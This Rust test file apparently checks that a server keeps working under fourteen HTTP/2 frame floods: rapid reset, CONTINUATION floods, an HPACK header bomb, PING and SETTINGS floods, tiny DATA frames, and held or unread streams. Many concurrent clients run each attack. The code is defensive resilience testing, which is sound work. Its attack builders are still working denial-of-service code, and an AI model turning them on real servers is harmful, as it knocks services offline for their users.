//! Attacks by many clients that send HTTP/2 frames as fast as they can.

use std::{future::Future, pin::Pin};

use crate::{
    attacks::ALMOST,
    client::{Target, crowd, flood},
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, REQUEST, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, frame, integer, literal, on_streams, preface,
    },
    under_attack::{Attack, LASTS, UnderAttack},
};

type Boxed = Pin<Box<dyn Future<Output = ()>>>;

/// Runs `count` clients that send `first` and then `piece` in a loop, and read the responses only if `reads` is set.
fn storm(target: Target, count: usize, first: Vec<u8>, piece: Vec<u8>, reads: bool) -> Boxed {
    Box::pin(async move {
        crowd(count, async |_| {
            if let Ok(stream) = target.tls("h2").await {
                flood(stream, &first, &piece, reads).await;
            }
        })
        .await;
    })
}

fn open(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &REQUEST)
}

/// Many streams on one connection, each with a body without its last byte.
fn streams_without_their_end(target: Target) -> Boxed {
    Box::pin(async move {
        crowd(4, async |_| {
            let Ok(stream) = target.tls("h2").await else { return };
            let Ok((client, connection)) = h2::client::handshake(stream).await else { return };
            let held = async {
                let bodies = (0..60).map(|_| {
                    let client = client.clone();
                    async move {
                        let request = http::Request::post("https://x/").body(()).unwrap();
                        let Ok((_answer, mut body)) = client.ready().await?.send_request(request, false) else {
                            return Ok(());
                        };
                        body.send_data(vec![b' '; ALMOST].into(), false)?;
                        std::future::pending::<Result<(), h2::Error>>().await
                    }
                });
                futures::future::join_all(bodies).await;
            };
            // Stop when the connection closes.
            tokio::select! {
                _ = connection => {}
                () = held => {}
            }
        })
        .await;
    })
}

/// Streams that wait for their bodies, as many as each connection allows.
fn open_streams(target: Target) -> Boxed {
    storm(target, 200, [preface(&[]), on_streams(100, open)].concat(), Vec::new(), true)
}

/// Streams that the client resets right after opening them.
fn rapid_reset(target: Target) -> Boxed {
    let pieces = on_streams(100_000, |stream| [open(stream), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat());
    storm(target, 32, [preface(&[]), pieces].concat(), Vec::new(), true)
}

/// The same with complete requests.
fn rapid_reset_of_requests(target: Target) -> Boxed {
    let pieces = on_streams(100_000, |stream| {
        let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &REQUEST);
        [request, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    });
    storm(target, 32, [preface(&[]), pieces].concat(), Vec::new(), true)
}

/// A single endless request head.
fn continuations(target: Target) -> Boxed {
    let first = [preface(&[]), frame(HEADERS, 0, 1, &REQUEST)].concat();
    let piece = frame(CONTINUATION, 0, 1, &literal("x-header", &[b'a'; 16000]));
    storm(target, 32, first, piece, true)
}

/// The same with empty CONTINUATION frames.
fn empty_continuations(target: Target) -> Boxed {
    let first = [preface(&[]), frame(HEADERS, 0, 1, &REQUEST)].concat();
    storm(target, 32, first, frame(CONTINUATION, 0, 1, &[]).repeat(1000), true)
}

/// One large header in the HPACK table, referenced with one byte each time: 16 KiB that would expand to 64 MiB.
fn header_bombs(target: Target) -> Boxed {
    let mut entry = vec![0x40];
    entry.extend(integer(1));
    entry.push(b'x');
    entry.extend(integer(4000));
    entry.extend([b'a'; 4000]);
    let bomb = [&REQUEST[..], &entry, &[0xbe; 12_000]].concat();
    let bombs = on_streams(100, |stream| frame(HEADERS, END_HEADERS, stream, &bomb));
    storm(target, 32, [preface(&[]), bombs].concat(), Vec::new(), true)
}

/// Heads of the maximum size on all streams.
fn large_heads(target: Target) -> Boxed {
    let head = [REQUEST.to_vec(), literal("x-header", &[b'a'; 7000])].concat();
    let heads = on_streams(100, |stream| frame(HEADERS, END_HEADERS, stream, &head));
    storm(target, 100, [preface(&[]), heads].concat(), Vec::new(), true)
}

fn pings(target: Target) -> Boxed {
    storm(target, 32, preface(&[]), frame(PING, 0, 0, &[0; 8]).repeat(1000), true)
}

fn pings_whose_answers_are_not_read(target: Target) -> Boxed {
    storm(target, 32, preface(&[]), frame(PING, 0, 0, &[0; 8]).repeat(1000), false)
}

fn settings(target: Target) -> Boxed {
    storm(target, 32, preface(&[]), frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 1, 0]).repeat(1000), true)
}

fn empty_data(target: Target) -> Boxed {
    let first = [preface(&[]), open(1)].concat();
    storm(target, 32, first, frame(DATA, 0, 1, &[]).repeat(1000), true)
}

/// Bodies with one byte per frame.
fn tiny_data(target: Target) -> Boxed {
    let first = [preface(&[]), open(1)].concat();
    storm(target, 32, first, frame(DATA, 0, 1, b" ").repeat(1000), true)
}

fn windows_and_priorities(target: Target) -> Boxed {
    let piece = [frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]), frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 7])].concat();
    storm(target, 32, preface(&[]), piece.repeat(1000), true)
}

/// Responses that the flow-control window blocks and that the client never reads.
fn answers_without_a_window(target: Target) -> Boxed {
    let requests = on_streams(50_000, |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &REQUEST));
    storm(target, 100, [preface(&[(4, 0)]), requests].concat(), Vec::new(), false)
}

#[tokio::test(flavor = "multi_thread")]
async fn http2_frame_floods_do_not_stop_the_operator() {
    let mut under = UnderAttack::begin("storms").await;
    under.bears_for(4 * LASTS, "streams without their end", streams_without_their_end).await;
    let attacks: [(&str, Attack); 14] = [
        ("open streams", open_streams),
        ("rapid reset", rapid_reset),
        ("rapid reset of requests", rapid_reset_of_requests),
        ("continuations", continuations),
        ("empty continuations", empty_continuations),
        ("header bombs", header_bombs),
        ("large heads", large_heads),
        ("pings", pings),
        ("pings unread", pings_whose_answers_are_not_read),
        ("settings", settings),
        ("empty data", empty_data),
        ("tiny data", tiny_data),
        ("windows and priorities", windows_and_priorities),
        ("answers without a window", answers_without_a_window),
    ];
    for (name, attack) in attacks {
        under.bears(name, attack).await;
    }
    under.end().await;
}
